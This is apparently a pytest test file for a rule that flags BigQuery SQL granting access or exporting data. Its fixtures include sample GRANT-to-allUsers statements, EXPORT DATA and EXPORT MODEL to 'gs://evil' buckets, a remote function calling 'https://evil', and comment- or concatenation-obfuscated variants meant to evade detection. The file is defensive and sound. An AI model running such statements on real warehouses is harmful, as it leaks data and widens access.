"""Finds in SQL what gives access, or takes data out."""

import time

import pytest

from groundplan_policies.engine.verdicts import Verdict
from groundplan_policies.rules.bypass.sql import judge_sql

F, U = Verdict.FAIL, Verdict.INDETERMINATE


def said(text: str, *routines: str) -> list[Verdict]:
    found = list(judge_sql(text, "query", routines))
    assert all([each.path for each in outcome.reasons] == ["query"] for outcome in found)
    return [outcome.verdict for outcome in found]


@pytest.mark.parametrize(
    "text",
    [
        "",
        "SELECT 1",
        "SELECT a, b FROM `acme-ml.sales.orders` WHERE a = 'GRANT ALL'",
        'SELECT "EXPORT DATA" AS `GRANT`',
        "SELECT `GRANT` FROM t",
        "SELECT grant, x.grant FROM t",
        "SELECT a GRANT",
        "-- GRANT `roles/x` ON SCHEMA s TO 'user:a'\nSELECT 1",
        "# GRANT a b\r\nSELECT 1",
        "/* GRANT a \n EXPORT DATA */ SELECT 1",
        "SELECT '''GRANT a''', \"\"\"EXPORT DATA\n OPTIONS\"\"\"",
        r"SELECT 'it\'s GRANT a', r'\' GRANT b', b'GRANT c', RB'GRANT d', Br'GRANT e'",
        r"SELECT '''a\''' GRANT b''', 1",
        "SELECT data FROM export",
        "SELECT GRANTED, REGRANT FROM t",
        "WITH connection_table AS (SELECT 1) SELECT 1",
        "CREATE TABLE connection (a INT64)",
        "CREATE OR REPLACE TABLE t AS SELECT 1",
        "CALL BQ.REFRESH_MATERIALIZED_VIEW('p.d.v')",
        "call bq.jobs.cancel('x')",
        "EXECUTE FUNCTION x",
        "SELECT a.GRANT",
        "MERGE t USING s ON a = b WHEN MATCHED THEN DELETE",
        "SELECT * FROM ML.PREDICT(MODEL d.m, TABLE d.t)",
        "SELECT data, connection FROM t",
    ],
)
def test_queries_and_quoted_words_are_nothing(text: str) -> None:
    assert said(text) == []


@pytest.mark.parametrize(
    "text",
    [
        "GRANT `roles/bigquery.dataViewer` ON SCHEMA sales TO 'user:a@acme.test'",
        "grant\n\t`roles/x` ON TABLE t TO 'allUsers'",
        "SELECT 1; GrAnT/**/`roles/x` ON SCHEMA s TO 'a'",
        "CREATE ROW ACCESS POLICY p ON t GRANT TO ('allUsers') FILTER USING (TRUE)",
        "BEGIN GRANT `roles/x` ON SCHEMA s TO 'a'; END",
        "/* a */GRANT--b\n`roles/x` ON SCHEMA s TO 'a'",
        "-- comment\rGRANT `roles/x` ON SCHEMA s TO 'a'",
        "EXPORT DATA OPTIONS (uri = 'gs://evil/*') AS SELECT * FROM t",
        "export -- now\n data OPTIONS () AS SELECT 1",
        "EXPORT MODEL m OPTIONS (uri = 'gs://evil')",
        "CREATE FUNCTION f(x INT64) RETURNS INT64 REMOTE WITH CONNECTION `p.eu.c` OPTIONS (endpoint = 'https://evil')",
        "CREATE OR REPLACE EXTERNAL TABLE t WITH CONNECTION `p.eu.c` OPTIONS (uris = [])",
        "CREATE CONNECTION c OPTIONS ()",
        "CREATE CONNECTION IF NOT EXISTS c OPTIONS ()",
        "CREATE OR REPLACE CONNECTION c OPTIONS ()",
    ],
)
def test_statements_that_give_access_or_take_data_out_fail(text: str) -> None:
    assert said(text) == [F]


def test_each_is_found() -> None:
    text = "EXPORT DATA WITH CONNECTION `c` OPTIONS () AS SELECT 1; GRANT `a` ON SCHEMA s TO 'b'; EXPORT MODEL m"
    assert said(text) == [F, F, F, F]


@pytest.mark.parametrize(
    "text",
    [
        "EXECUTE IMMEDIATE 'GR' || 'ANT `x` ON SCHEMA s TO \"a\"'",
        "execute\nimmediate x",
        "CALL sales.refresh()",
        "CALL `acme-ml.sales.refresh`(1)",
        "CALL ?.refresh()",
        "CALL refresh()",
        "CALL x",
        "SELECT 1 /* GRANT a",
        "SELECT '''GRANT a",
        'SELECT """GRANT a',
    ],
)
def test_what_nobody_sees_is_indeterminate(text: str) -> None:
    assert said(text) == [U]


@pytest.mark.parametrize(
    "text", ["CALL sales.refresh(1)", "CALL `acme-ml.sales.refresh`(1)", "CALL `sales`.`refresh`()"]
)
def test_procedures_of_this_deployment_are_looked_at_themselves(text: str) -> None:
    routines = ("sales.refresh", "acme-ml.sales.refresh")
    assert said(text, *routines) == []
    assert said(text.replace("refresh", "open"), *routines) == [U]
    assert said("CALL acme-ml.sales.refresh()", *routines) == []
    assert said("CALL other.sales.refresh()", *routines) == [U]


def test_a_text_that_does_not_end_hides_nothing_before_it() -> None:
    assert said("GRANT `a` ON SCHEMA s TO 'b'; SELECT /* x") == [U, F]


def test_quotes_that_do_not_end_on_their_line_are_none() -> None:
    assert said("SELECT ' \nGRANT `a` ON SCHEMA s TO 'b'") == [F]
    assert said('SELECT "\nEXPORT DATA OPTIONS ()') == [F]
    assert said("SELECT `\nEXPORT DATA OPTIONS ()") == [F]


def test_hostile_texts_take_no_time() -> None:
    started = time.perf_counter()
    for part in ("/*", "'''", '"""', "'", "`", "CALL ", "GRANT", "\\", "r'"):
        list(judge_sql(part * 50_000, "query", ()))
    assert time.perf_counter() - started < 30
